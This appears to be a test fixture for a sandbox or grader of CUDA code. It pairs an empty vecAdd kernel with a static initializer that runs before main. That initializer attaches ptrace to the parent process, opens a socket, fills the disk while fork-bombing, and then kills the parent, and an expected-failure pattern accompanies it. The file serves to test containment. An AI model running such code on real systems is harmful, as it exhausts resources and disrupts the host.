// trick: forks without end, fills the disk, opens a socket, traces and kills its parent, before main
// fails: c\[[0-9]+\] (is|was never written)
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <unistd.h>

__global__ void vecAdd(const float *a, const float *b, float *c, size_t n) {}

static int ruin()
{
    ptrace(PTRACE_ATTACH, getppid(), 0, 0);
    socket(AF_INET, SOCK_STREAM, 0);
    int file = open("@WORK@/was-here", O_WRONLY | O_CREAT, 0666);
    while (write(file, "flood", 5) == 5)
        fork();
    kill(getppid(), SIGKILL);
    return 0;
}

static int before = ruin();
